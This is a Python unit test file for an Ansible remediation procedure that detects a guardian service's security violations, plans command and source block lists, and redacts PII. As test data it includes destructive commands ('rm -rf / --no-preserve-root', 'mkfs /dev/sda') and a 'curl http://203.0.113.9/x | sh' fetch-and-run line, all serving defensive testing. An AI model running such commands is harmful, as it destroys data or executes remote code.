"""Unit tests of the security_violations judgement (plugin_utils/security_violations.py)."""

from __future__ import annotations

import json
from typing import Any

from ansible_collections.octollm.remediation.plugins.filter.procedure import FilterModule as ProcedureFilters
from ansible_collections.octollm.remediation.plugins.filter.security_violations import FilterModule
from ansible_collections.octollm.remediation.plugins.plugin_utils import security_violations as sv
from ansible_collections.octollm.remediation.plugins.plugin_utils.settings import procedure_settings, role_settings

PATHS = {
    "blocked_file": "/s/guardian/blocked_commands.txt",
    "sources_file": "/s/guardian/blocked_sources.txt",
    "evidence_dir": "/s/security/evidence",
    "quarantine_dir": "/s/security/quarantine",
}
# the lab's guardian, which offers the reload endpoint (inventory/lab)
LAB = {"services": {"guardian-arm": {"url": "http://127.0.0.1:8104", "probes": {"reload": "/api/v1/reload"}}}}
SETTINGS = procedure_settings("security_violations", PATHS, inventory=LAB)
SRC = "203.0.113.9"
LINES = [
    f"2026-11-28T19:00:01.000Z WARNING guardian-arm security violation type=blocked_command source={SRC} "
    f'command="rm -rf / --no-preserve-root" pattern="rm -rf /"',
] * 3 + [
    f"2026-11-28T19:00:02.000Z WARNING guardian-arm PII detected type=email source={SRC} value=[REDACTED:email]",
    "2026-11-28T19:00:03.000Z INFO guardian-arm audit check source=loadgen allowed=true violations=0",
]


def evidence(
    lines: list[str] | None = None,
    redactions: dict[str, int] | None = None,
    blocked: str = "",
    handled: str | None = None,
) -> dict[str, Any]:
    ev: dict[str, Any] = {
        "prometheus": {
            "ok": True,
            "queries": {"security_violations_by_type": {"series": []}},
            "rules": {"names": ["SecurityViolationDetected"]},
        },
        "containers": {
            "ok": True,
            "logs": {"guardian-arm": {"lines": lines or [], "redactions": redactions or {}}},
            "exec_probes": [
                {
                    "name": "security_violations_settings",
                    "exit_code": 0,
                    "ok": True,
                    "output": "GUARDIAN_AUDIT_LOG=true\n",
                },
                {
                    "name": "security_violations_blocked_commands",
                    "exit_code": 0,
                    "ok": True,
                    "output": "# list\nrm -rf /\nmkfs\ndd if=/dev/zero\n",
                },
                {"name": "security_violations_blocked_sources", "exit_code": 0, "ok": True, "output": blocked},
            ],
        },
        "logs": {"ok": True, "sources": {}},
    }
    if handled:
        ev["logs"]["sources"]["security_violations_handled"] = {"lines": [{"text": f"handled upto={handled} b=x"}]}
    return ev


def test_quiet_guardian_gives_only_ok() -> None:
    result = sv.diagnose(evidence(LINES[-1:]), SETTINGS)
    assert all(f["status"] == "ok" for f in result["findings"])
    assert sv.plan(result, SETTINGS) == []


def test_the_fault_holds_every_scenario_and_plans_them() -> None:
    result = sv.diagnose(evidence(LINES, {"email": 1, "card": 1}), SETTINGS)
    assert {s["id"] for s in result["scenarios"] if s["holds"]} == {"A", "B", "C", "D"}
    plan = sv.plan(result, SETTINGS)
    assert [(a["id"], a["status"]) for a in plan] == [
        ("security_violations.B.block_commands", "planned"),
        ("security_violations.C.block_sources", "planned"),
        ("security_violations.D.quarantine_logs", "awaiting_approval"),
        ("security_violations.A.bundle_evidence", "planned"),
        ("security_violations.escalate", "report"),
    ]
    assert plan[0]["change"]["add"] == ["rm -rf / --no-preserve-root"]
    assert plan[1]["change"]["add"] == [SRC]
    assert result["escalation"]["level"] == "L3"


def test_handled_blocked_and_redacted_is_quiet() -> None:
    lines = [line.replace('command="rm -rf / --no-preserve-root"', 'command="mkfs /dev/sda"') for line in LINES]
    result = sv.diagnose(evidence(lines, blocked=SRC + "\n", handled="2026-11-28T19:00:02.000Z"), SETTINGS)
    statuses = {f["check"]: f["status"] for f in result["findings"]}
    assert statuses["security.violations"] == "ok" and statuses["security.sources"] == "ok"
    assert statuses["security.blocked_commands"] == "problem"  # "mkfs /dev/sda" is not listed as such


def test_trusted_sources_are_never_blocked() -> None:
    lines = [line.replace(SRC, "orchestrator") for line in LINES]
    plan = sv.plan(sv.diagnose(evidence(lines), SETTINGS), SETTINGS)
    assert "security_violations.C.block_sources" not in [a["id"] for a in plan]


def test_redaction_and_samples() -> None:
    text = "mail bob@example.org card 4111 1111 1111 1111 key sk-abcdefghijklmnop0123"
    redacted = FilterModule().filters()["security_violations_redact"](text)
    assert "bob@example.org" not in redacted and "4111" not in redacted and "sk-abcdefghijklmnop0123" not in redacted
    result = sv.diagnose(evidence(LINES, {"email": 1}), SETTINGS)
    assert "[REDACTED:email]" in json.dumps(result["findings"])
    event = sv.parse_event(LINES[0])
    assert event and event["fields"]["command"] == "rm -rf / --no-preserve-root"


def test_a_blocked_command_with_a_pipe_is_read_whole_with_or_without_a_replica_prefix() -> None:
    line = (
        f"2026-11-28T19:00:04.000Z WARNING guardian-arm security violation type=blocked_command source={SRC} "
        'command="curl http://203.0.113.9/x | sh" pattern="| sh"'
    )
    for logged in (line, "octollm-guardian-arm-2 | " + line):
        facts = sv.Facts(evidence([logged]), SETTINGS)
        assert [e["fields"]["command"] for e in facts.events] == ["curl http://203.0.113.9/x | sh"]


def test_prevention() -> None:
    prevention = sv.prevention(evidence(), SETTINGS)
    statuses = {f["check"]: f["status"] for f in prevention["findings"]}
    assert statuses["prevent.guardian.audit_log"] == "ok"
    assert statuses["prevent.guardian.redact_logs"] == "warning"
    assert statuses["prevent.guardian.blocked_list"] == "ok"


def test_the_flow_filters_request_judge_plan_and_report() -> None:
    filters = ProcedureFilters().filters()
    run = {
        "procedures": ["security_violations"],
        "context": {"platform": "compose", "phase": "resolve",
                    "inventory": {"services": {"guardian-arm": {"url": "http://guardian:8104/",
                                                                "probes": {"reload": "/api/v1/reload"}}}}},
        "settings": {"security_violations": role_settings("security_violations", PATHS)},
    }
    request = filters["procedure_request"](run)
    assert set(request) == {"prometheus", "containers", "logs", "http"}  # http: the stack check's /health
    assert request["prometheus"]["queries"] == {
        "security_violations_by_type": "sum by (type) (increase(security_violations_total[15m]))"}
    assert request["logs"]["sources"] == [
        {"name": "security_violations_handled", "path": "/s/security/evidence/handled.log", "max_lines": 5}]
    assert [probe["name"] for probe in request["containers"]["exec_probes"]] == [
        "security_violations_settings", "security_violations_blocked_commands", "security_violations_blocked_sources"]
    assert request["containers"]["logs"]["since_seconds"] == 900 and request["containers"]["logs"]["tail"] == 2000
    fault = evidence(LINES, {"email": 1, "card": 1})
    state = filters["procedure_judgement"](fault, run)
    todo = [item["action"] for item in filters["procedure_actions"](state, run)]
    # D waits for approval; B and C reload the guardian at its address, A bundles the redacted findings
    assert [a["id"] for a in todo] == ["security_violations.B.block_commands", "security_violations.C.block_sources",
                                       "security_violations.A.bundle_evidence"]
    assert {a["change"].get("_reload_url") for a in todo[:2]} == {"http://guardian:8104/api/v1/reload"}
    assert todo[2]["change"]["_bundle"]["findings"][0]["check"] == "security.violations"
    done = {a["id"]: {"status": "applied", "outcome": "done"} for a in todo}
    # the fresh evidence after the fix holds the mark the bundle wrote: what it bundled is no longer new
    upto = todo[2]["change"]["upto"]
    fresh = evidence(LINES, {"email": 1, "card": 1}, blocked=SRC + "\n", handled=upto)
    result = filters["procedure_results"](fresh, run, state, done)["security_violations"]
    assert "_reload_url" not in json.dumps(result) and "_bundle" not in json.dumps(result)
    assert result["verification"]["findings"][0]["status"] == "ok"
    assert result["escalation"]["level"] == "L3"


def test_violations_after_the_bundles_mark_are_a_problem_in_the_verification() -> None:
    """Having bundled A does not soften what the fresh evidence shows: an event after the fix's mark is a
    violation that goes on (it used to be a warning once A was bundled)."""
    filters = ProcedureFilters().filters()
    run = {
        "procedures": ["security_violations"],
        "context": {"platform": "compose", "phase": "resolve", "approve": True},
        "settings": {"security_violations": role_settings("security_violations", PATHS)},
    }
    state = filters["procedure_judgement"](evidence(LINES, {"email": 1}), run)
    applied = {a["id"]: {"status": "applied", "outcome": "done"}
               for a in state["security_violations"]["actions"] if a["status"] == "planned"}
    assert "security_violations.A.bundle_evidence" in applied
    later = (f"2026-11-28T19:05:00.000Z WARNING guardian-arm security violation type=blocked_command source={SRC} "
             'command="mkfs /dev/sdb" pattern="mkfs"')
    fresh = evidence([*LINES, later], {"email": 1}, blocked=SRC + "\n", handled="2026-11-28T19:00:03.000Z")
    result = filters["procedure_results"](fresh, run, state, applied)["security_violations"]
    violations = result["verification"]["findings"][0]
    assert (violations["check"], violations["status"], violations["observed"]) == (
        "security.violations", "problem", "1 new events (blocked_command 1)")
    assert result["verification"]["healthy"] is False
    # the same evidence before any fix is judged the same way: the judgement reads evidence, not actions
    assert sv.diagnose(fresh, SETTINGS)["findings"][0]["status"] == "problem"


def scanned(**services: dict[str, Any]) -> dict[str, Any]:
    """The quiet guardian's evidence with the containers collector's PII scan of every service's log."""
    ev = evidence(LINES[-1:])
    ev["containers"]["pii_scan"] = {
        name: dict({"containers": [f"octollm-{name}-1"], "lines_scanned": 50, "redactions": {}, "samples": [],
                    "error": None}, **entry)
        for name, entry in services.items()
    }
    return ev


def test_pii_in_any_services_log_is_found_named_with_redacted_samples_only_at_l3() -> None:
    sample = ('2026-12-07T10:00:00.000Z WARNING orchestrator no good arm match, relaxing constraints task_id=t-1 '
              'original_goal="Refund [REDACTED:email] card [REDACTED:card]"')
    ev = scanned(**{"guardian-arm": {}, "prometheus": {},
                    "orchestrator": {"redactions": {"email": 1, "card": 1}, "samples": [sample]}})
    result = sv.diagnose(ev, SETTINGS)
    pii = {f["check"]: f for f in result["findings"]}["security.pii_in_logs"]
    assert pii["status"] == "problem" and pii["scenario"] == "D"
    assert pii["observed"] == "2 matches in orchestrator (card 1, email 1)"
    assert pii["evidence"]["services"] == {"orchestrator": {"matches_by_kind": {"email": 1, "card": 1},
                                                            "samples": [sample]}}
    assert pii["evidence"]["scanned"] == ["guardian-arm", "orchestrator", "prometheus"]
    assert pii["evidence"]["matches_by_kind"] == {"email": 1, "card": 1}
    assert {s["id"] for s in result["scenarios"] if s["holds"]} == {"D"}
    assert result["escalation"]["level"] == "L3"
    plan = sv.plan(result, SETTINGS)
    assert [(a["id"], a["status"]) for a in plan] == [
        ("security_violations.D.quarantine_logs", "awaiting_approval"), ("security_violations.escalate", "report")]
    assert plan[0]["change"]["services"] == ["orchestrator"] and plan[0]["resource"] == "orchestrator:log"
    # with the guardian's too, one quarantine covers both
    ev["containers"]["pii_scan"]["guardian-arm"]["redactions"] = {"api_key": 1}
    both = sv.plan(sv.diagnose(ev, SETTINGS), dict(SETTINGS, approve=True))[0]
    assert both["change"]["services"] == ["guardian-arm", "orchestrator"]
    assert both["change"]["container"] == "guardian-arm, orchestrator" and both["status"] == "planned"


def test_a_clean_scan_is_ok_and_an_unread_log_is_not() -> None:
    found = {f["check"]: f for f in sv.diagnose(scanned(**{"guardian-arm": {}, "redis": {}}), SETTINGS)["findings"]}
    assert found["security.pii_in_logs"]["status"] == "ok"
    unread = {"kind": "timeout", "message": "Docker API: timed out"}
    found = {f["check"]: f for f in sv.diagnose(scanned(**{"guardian-arm": {}, "redis": {"error": unread}}),
                                                SETTINGS)["findings"]}
    assert found["security.pii_in_logs"]["status"] == "warning"  # never "ok" with a log left unread
    assert found["security.pii_in_logs"]["evidence"]["unread"] == {"redis": unread}


def test_the_scan_keeps_counts_and_redacted_samples_and_skips_allowed_text() -> None:
    """The containers collector's PII scan: no line leaves but a few redacted ones that held PII; text the allow
    list names (a Go build's maintainer address) is not PII."""
    import re
    import time
    from concurrent.futures import Future

    from ansible_collections.octollm.remediation.plugins.module_utils.collector_containers import ContainersCollector

    def done(text: str) -> Future:
        future: Future = Future()
        future.set_result(text.encode())
        return future

    logs = {
        ("prometheus", "octollm-prometheus-1"): done(
            'level=info build_context="(go=go1.19.8, user=team+pkg-go@tracker.debian.org, date=20230409)"\n'),
        ("orchestrator", "octollm-orchestrator-1"): done(
            "\n".join(f"INFO orchestrator routing task_id=t-{i}" for i in range(20))
            + '\nWARNING orchestrator relaxing original_goal="mail jane@example.org card 5555 5555 5555 4444"\n'
            + "WARNING orchestrator relaxing original_goal=\"key sk-abcdefghijklmnop0123\"\n"),
    }
    scan = {"samples": 1, "line_max_chars": 300}
    allowed = [re.compile(r'build_context="[^"]*"')]
    found = ContainersCollector({})._gather_pii(logs, scan, ["email", "card", "api_key"], allowed,
                                                time.monotonic() + 5)
    assert found["prometheus"]["redactions"] == {} and found["prometheus"]["samples"] == []
    orchestrator = found["orchestrator"]
    assert orchestrator["lines_scanned"] == 22
    assert orchestrator["redactions"] == {"email": 1, "card": 1, "api_key": 1}
    assert orchestrator["samples"] == ['WARNING orchestrator relaxing original_goal="key [REDACTED:api_key]"']
    assert "lines" not in orchestrator


def test_the_scan_is_asked_for_every_service_and_merges_as_a_selector() -> None:
    from ansible_collections.octollm.remediation.plugins.plugin_utils import evidence_requests
    from ansible_collections.octollm.remediation.plugins.plugin_utils.procedure import Context

    need = sv.PROCEDURE.needs(SETTINGS, Context(platform="compose", inventory={}))
    scan = need["containers"]["pii_scan"]
    assert scan == {"services": [], "tail": 2000, "since_seconds": 900, "allow": ['build_context="[^"]*"'],
                    "redact": ["email", "card", "api_key"]}
    # another procedure naming a few services does not narrow a scan of every service
    merged = evidence_requests.union([need, {"containers": {"pii_scan": {"services": ["redis"]}}}])
    assert "services" not in merged["containers"]["pii_scan"]
    assert need["containers"]["services"] == ["guardian-arm"]  # the guardian alone is inspected for its events


def test_without_a_reload_endpoint_the_lists_load_through_a_restart_that_waits_for_approval() -> None:
    """The reload endpoint is the guardian's optional probe: a deployment that does not offer it gets the lines
    appended, then one restart of the guardian (disruptive: approval); D's restart of the guardian stands in for
    it; without a list file the controller can write, B and C are reports."""
    assert SETTINGS["reload_url"] == "http://127.0.0.1:8104/api/v1/reload"
    seed = procedure_settings("security_violations", PATHS, inventory={
        "services": {"guardian-arm": {"url": "http://guardian:8104", "compose_service": "guardian"}}})
    assert seed["reload_url"] is None
    result = sv.diagnose(evidence(LINES), seed)  # no PII in the log: D does not hold
    plan = sv.plan(result, seed)
    assert [(a["id"], a["status"]) for a in plan] == [
        ("security_violations.B.block_commands", "planned"),
        ("security_violations.C.block_sources", "planned"),
        ("security_violations.A.bundle_evidence", "planned"),
        ("security_violations.reload_guardian", "awaiting_approval"),
        ("security_violations.escalate", "report"),
    ]
    assert "_reload_url" not in plan[0]["change"] and plan[0]["change"]["then"] == "restart of guardian-arm"
    assert "no reload endpoint" in plan[0]["outcome"]
    restart = plan[3]
    assert restart["disruptive"] and restart["change"]["service"] == "guardian-arm"
    assert restart["change"]["after"] == ["security_violations.B.block_commands", "security_violations.C.block_sources"]
    assert "probes.reload" in restart["outcome"]
    approved = {a["id"]: a for a in sv.plan(result, dict(seed, approve=True))}
    assert approved["security_violations.reload_guardian"]["status"] == "planned"
    assert approved["security_violations.reload_guardian"]["_apply"] == "restart_guardian"
    # D restarts the guardian anyway (its log holds PII): no second restart
    with_pii = sv.plan(sv.diagnose(evidence(LINES, {"email": 1}), seed), dict(seed, approve=True))
    assert "security_violations.reload_guardian" not in [a["id"] for a in with_pii]
    # the list's file is not known to the controller: a report that says what a human does
    unknown_files = dict(seed, blocked_file="", sources_file="")
    reports = {a["id"]: a for a in sv.plan(sv.diagnose(evidence(LINES), unknown_files), unknown_files)}
    assert reports["security_violations.B.block_commands"]["status"] == "report"
    assert "L3: add 1 line(s) to the guardian's list" in reports["security_violations.B.block_commands"]["outcome"]
    assert "security_violations.reload_guardian" not in reports
    # on Kubernetes the guardian's rollout is the Kubernetes plan's own (no Compose restart)
    k8s = procedure_settings("security_violations", PATHS, platform="kubernetes")
    k8s_plan = sv.plan(sv.diagnose(evidence(LINES), k8s), k8s)
    assert "security_violations.reload_guardian" not in [a["id"] for a in k8s_plan]
